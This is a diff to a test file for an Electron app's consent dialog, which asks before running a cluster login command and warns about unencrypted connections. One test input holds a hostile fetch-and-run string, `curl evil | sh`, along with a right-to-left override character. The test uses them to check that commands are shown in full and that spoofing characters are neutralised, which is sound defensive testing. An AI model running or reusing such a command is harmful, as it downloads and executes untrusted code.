@@ -11,7 +11,7 @@ vi.mock('electron', () => ({
 }))
 // Files share their modules: another may have loaded these over an Electron of its own.
 vi.resetModules()
-const { askConsent, commandQuestion } = await import('../../../main/window/consent')
+const { askConsent, wishQuestion } = await import('../../../main/window/consent')
 const ask = (details: readonly string[]) => askConsent({} as never, { message: 'Add this?', details, agree: 'Add' })
 
 test('agreeing goes on; anything else, Enter and Escape too, refuses', async () => {
@@ -33,14 +33,21 @@ test("strangers' text can neither turn, hide nor fake a line, nor push the quest
   expect(place.shown.at(-1)!.detail.split('\n').at(-1)).toBe('And 488 more.')
 })
 
-test('a command is shown to its last character, or it is not asked about', async () => {
+test('a command is shown to its last character, with the program it comes to and the file it stands in, or it is not asked about', async () => {
   place.response = 1
   const command = `login --url https://example.com/${'x'.repeat(2_000)} --exec 'curl evil | sh' \u202e\nend`
-  await askConsent({} as never, commandQuestion('prod', 'kubevirt:prod', command))
+  const wish = { kind: 'command' as const, marks: ['x'], command, program: `/opt/${'p'.repeat(80)}/login`, file: `/home/me/${'k'.repeat(80)}/config` }
+  await askConsent({} as never, wishQuestion('prod', 'kubevirt:prod', wish))
   const { detail, message } = place.shown.at(-1)!
   expect(message).toBe('Run this command to log in to prod?')
-  expect(detail.split('\n').slice(3).join('')).toBe(command.replace('\u202e\n', '\ufffd\ufffd'))
+  expect(detail.split('\n').slice(3).join('')).toBe(`Command: ${command.replace('\u202e\n', '\ufffd\ufffd')}Program: ${wish.program}Kubeconfig: ${wish.file}`)
   const before = place.shown.length
-  await expect(askConsent({} as never, commandQuestion('prod', 'kubevirt:prod', 'x'.repeat(100_000)))).rejects.toMatchObject({ failure: { code: 'denied' } })
+  await expect(askConsent({} as never, wishQuestion('prod', 'kubevirt:prod', { ...wish, command: 'x'.repeat(100_000) }))).rejects.toMatchObject({ failure: { code: 'denied' } })
   expect(place.shown).toHaveLength(before)
+})
+
+test('what is unsafe about a way is told with the server it leads to', async () => {
+  place.response = 1
+  await askConsent({} as never, wishQuestion('prod', 'kubevirt:prod', { kind: 'risks', marks: ['x'], server: 'http://10.0.0.1:8080/', risks: ['It is not encrypted.'] }))
+  expect(place.shown.at(-1)).toMatchObject({ message: 'Connect to prod all the same?', detail: 'kubevirt:prod\nIt is not encrypted.\n\nServer: http://10.0.0.1:8080/', defaultId: 0 })
 })
